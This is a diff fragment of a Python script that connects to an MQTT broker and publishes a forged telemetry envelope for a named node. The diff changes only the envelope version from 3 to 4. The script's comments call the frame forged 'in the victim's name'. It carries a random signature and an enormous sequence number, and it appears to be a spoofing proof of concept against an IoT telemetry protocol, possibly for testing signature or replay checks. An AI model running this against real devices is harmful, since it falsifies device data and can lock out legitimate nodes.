@@ -13,8 +13,8 @@ vh=s(b'MQTT')+bytes([4,0x02])+(60).to_bytes(2,'big')
 pl=s(cid)
 sock=socket.create_connection((host,port)); sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
 sock.sendall(bytes([0x10])+varint(len(vh+pl))+vh+pl); sock.recv(4)
-# a forged telemetry envelope in the victim's name: version 3, Telemetry, node, seq, boot, empty sample, random signature
-frame=bytes([3,1])+bytes.fromhex(node)+varint(10**12)+varint(1)+bytes(5)+bytes([0,0,0,0,0])+os.urandom(64)
+# a forged telemetry envelope in the victim's name: version 4, Telemetry, node, seq, boot, empty sample, random signature
+frame=bytes([4,1])+bytes.fromhex(node)+varint(10**12)+varint(1)+bytes(5)+bytes([0,0,0,0,0])+os.urandom(64)
 topic=f'ambient/v1/nodes/{node}/telemetry'.encode()
 body=s(topic)+frame
 pkt=bytes([0x30])+varint(len(body))+body
